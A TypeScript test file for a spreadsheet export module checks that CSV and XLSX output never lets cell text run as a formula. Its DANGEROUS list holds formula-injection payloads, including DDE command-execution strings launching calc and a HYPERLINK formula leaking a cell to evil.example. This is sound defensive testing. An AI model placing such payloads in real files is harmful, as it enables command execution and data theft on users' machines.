import { createWriteStream, readFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Readable } from "node:stream";
import { buffer } from "node:stream/consumers";
import { pipeline } from "node:stream/promises";

import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { readSpreadsheet } from "#server/files/spreadsheet/read-spreadsheet.ts";
import type { SheetCell, SheetTable } from "#server/files/spreadsheet/sheet-table.ts";
import { cleanText } from "#contract/values/clean-text.ts";
import { replaceMissing, restoreMissing } from "#server/files/spreadsheet/windows-1251.ts";
import { writeCsv } from "#server/files/spreadsheet/write-csv.ts";
import { writeXlsx } from "#server/files/spreadsheet/write-xlsx.ts";
import { ZipArchive } from "#server/files/spreadsheet/zip-archive.ts";
import { tableReaders, type OpenedCell } from "#tests/support/opened-tables.ts";

/** Source: reliability R15. */
const DANGEROUS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=1+1\nx",
  "\u00A0=1+1",
  " =1+1",
  "\u200B=1+1",
  "\uFEFF=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  '"=1+1',
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1;"Нажмите")',
  '=DDE("cmd";"/C calc";"x")',
  "-2+3+cmd|' /C calc'!A0",
  "=1;=2",
];
const HARMLESS = [
  "+7 (916) 123 45 67",
  "+79161234567",
  "79161234567",
  "Иванов-Петров",
  "a=b",
  'ООО "Ромашка"; и другие',
  "строка\nс переносом",
  "строка\r\nс переносом",
  " пробелы по краям ",
  "_x000D_ как есть",
  "<b>&amp;</b>",
  "№ 15 — «да»",
  "ә Ә 🙂 ₸",
  "&#1240; и &#65;",
  "− 5",
  "007",
];

let folder = "";
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "export-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

describe.each(["windows-1251", "utf-8"] as const)("a CSV in %s", (encoding) => {
  it("lets no text run as a formula", async () => {
    const cells = parseCsv(await saveCsv(encoding, [...DANGEROUS, "\u0000=1+1"]), encoding);
    for (const cell of cells) {
      expect(cell, JSON.stringify(cell)).not.toMatch(/^[\s"\u200B\uFEFF]*[=+\-@＝＋－＠]/);
      expect(cell.startsWith("\t") || cell.startsWith("\r") || cell.startsWith("\n")).toBe(false);
    }
    expect(cells).toHaveLength(DANGEROUS.length + 1);
  });

  it("comes back through our own reader, without invisible marks", async () => {
    const texts = [...DANGEROUS, ...HARMLESS];
    const expected =
      encoding === "utf-8" ? texts : texts.map((text) => restoreMissing(replaceMissing(text)));
    expect(await readBack(await saveCsv(encoding, texts))).toEqual(expected.map(cleanText));
  });

  it("keeps phones as they are", async () => {
    const bytes = readFileSync(await saveCsv(encoding, ["+7 (916) 123 45 67", "+79161234567"]));
    expect(new TextDecoder(encoding).decode(bytes)).toContain(
      "\r\n+7 (916) 123 45 67;x\r\n+79161234567;x\r\n",
    );
  });
});

describe("a CSV", () => {
  it("writes numbers with a comma, dates by days, and loses no letter windows-1251 lacks", async () => {
    const path = join(folder, "typed.csv");
    await save(
      path,
      writeCsv(
        tableOf([
          [{ number: "-1234.5" }, { date: "2026-03-05" }],
          ["Сумма, ₽", "Әлия −5"],
          [null, ""],
        ]),
      ),
    );
    const text = new TextDecoder("windows-1251").decode(readFileSync(path));
    expect(text).toBe('Текст;Ещё\r\n-1234,5;05.03.2026\r\nСумма, руб.;"&#1240;лия -5"\r\n;\r\n');
    expect((await readRows(path))[2]).toEqual(["Сумма, руб.", "Әлия -5"]);
  });

  it("gives back any text at all", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.string({ unit: "grapheme", minLength: 1 }), { minLength: 1, maxLength: 20 }),
        async (texts) => {
          const clean = texts.map((text) => `${text}.`);
          expect(await readBack(await saveCsv("utf-8", clean))).toEqual(
            clean.map(dropControl).map(cleanText),
          );
        },
      ),
      { numRuns: 50 },
    );
  });
});

describe("a workbook", () => {
  it("holds every text as text and gives it back", async () => {
    const texts = [...DANGEROUS, ...HARMLESS];
    const path = join(folder, "texts.xlsx");
    await save(path, writeXlsx([tableOf(texts.map((text) => [text, "x"]))]));
    const xml = await sheetXml(path, 1);
    expect(xml).not.toContain("<f>");
    expect(xml).not.toMatch(/<c r="A\d+"(?![^>]*t="inlineStr")/);
    // Our reader strips a leading apostrophe, even one nobody added.
    expect(await readBack(path)).toEqual(
      texts.map((text) => cleanText(/^'+=/.test(text) ? text.slice(1) : text)),
    );
  });

  it("has exact numbers, dates, a hidden sheet for programs, and NUL nowhere", async () => {
    const path = join(folder, "typed.xlsx");
    const meta: SheetTable = {
      name: "_meta",
      columns: [{ title: "kind", width: 10 }],
      batches: [[["payroll"]]],
      isHidden: true,
    };
    await save(
      path,
      writeXlsx([
        meta,
        tableOf([
          [{ number: "2400000.01" }, { date: "2026-03-05" }],
          ["a\u0000b", "007"],
        ]),
      ]),
    );
    expect(await readRows(path)).toEqual([
      ["Текст", "Ещё"],
      ["2400000.01", "05.03.2026"],
      ["ab", "007"],
    ]);
    const workbook = await partText(path, "xl/workbook.xml");
    expect(workbook).toContain('<sheet name="_meta" sheetId="1" state="hidden"');
  });

  it("refuses a number that is no number, instead of writing a broken file", async () => {
    await expect(
      save(join(folder, "bad.xlsx"), writeXlsx([tableOf([[{ number: "=1+1" }]])])),
    ).rejects.toThrow(RangeError);
    await expect(
      save(join(folder, "bad.csv"), writeCsv(tableOf([[{ date: "=1+1" }]]))),
    ).rejects.toThrow(RangeError);
  });
});

describe.each(tableReaders())("texts of any kind, opened by $name", ({ name, open }) => {
  const texts = [...DANGEROUS, ...HARMLESS];
  let first: (readonly OpenedCell[])[];
  beforeAll(async () => {
    const table = tableOf(texts.map((text) => [text, "x"]));
    const opened = open([
      { name: "texts.xlsx", bytes: await buffer(Readable.from(writeXlsx([table]))) },
      { name: "lines.csv", bytes: await buffer(Readable.from(writeCsv(table))) },
    ]);
    first = opened.map(
      (tables) => [...tables.values()][0]?.slice(1).map(([cell = null]) => cell) ?? [],
    );
  });

  it("are texts in a workbook, not one of them a formula or changed", () => {
    expect(first[0]?.filter((cell) => typeof cell !== "string")).toEqual([]);
    // LibreOffice writes line ends and tabs as elements.
    if (name === "LibreOffice") expect(first[0]).toHaveLength(texts.length);
    else expect(first[0]).toEqual(texts);
  });

  it("run as no formula in a CSV", () => {
    expect(first[1]).toHaveLength(texts.length);
    for (const cell of first[1]?.slice(0, DANGEROUS.length) ?? [])
      expect(String(cell)).not.toMatch(/^[\s"\u200B\uFEFF]*[=+\-@＝＋－＠]/);
  });
});

function tableOf(rows: SheetCell[][]): SheetTable {
  return {
    name: "Реестр",
    columns: [
      { title: "Текст", width: 20, isText: true },
      { title: "Ещё", width: 10 },
    ],
    batches: [rows],
  };
}

async function saveCsv(encoding: "windows-1251" | "utf-8", texts: string[]): Promise<string> {
  const path = join(folder, `texts-${encoding}.csv`);
  await save(path, writeCsv(tableOf(texts.map((text) => [text, "x"])), { encoding }));
  return path;
}

function save(path: string, chunks: AsyncIterable<Buffer>): Promise<void> {
  return pipeline(Readable.from(chunks), createWriteStream(path));
}

async function readRows(path: string): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const batch of readSpreadsheet(path, "Реестр"))
    rows.push(...batch.map(({ cells }) => cells));
  return rows;
}

/** First column, without the header. */
async function readBack(path: string): Promise<string[]> {
  return (await readRows(path)).slice(1).map(([first]) => first ?? "");
}

/** A second, independent reader: what any program finds in the cells. */
function parseCsv(path: string, encoding: string): string[] {
  const text = new TextDecoder(encoding).decode(readFileSync(path));
  return [...text.matchAll(/(?:^|\r\n)(?:"((?:[^"]|"")*)"|([^;\r\n]*));x(?=\r\n)/g)].map(
    ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "",
  );
}

async function sheetXml(path: string, number: number): Promise<string> {
  return partText(path, `xl/worksheets/sheet${number}.xml`);
}

async function partText(path: string, name: string): Promise<string> {
  const archive = await ZipArchive.open(path);
  try {
    return await archive.readText(name);
  } finally {
    archive.close();
  }
}

function dropControl(text: string): string {
  return [...text]
    .filter((character) => !/[^\P{Cc}\t\n\r]|[\uFFFE\uFFFF]/u.test(character))
    .join("");
}
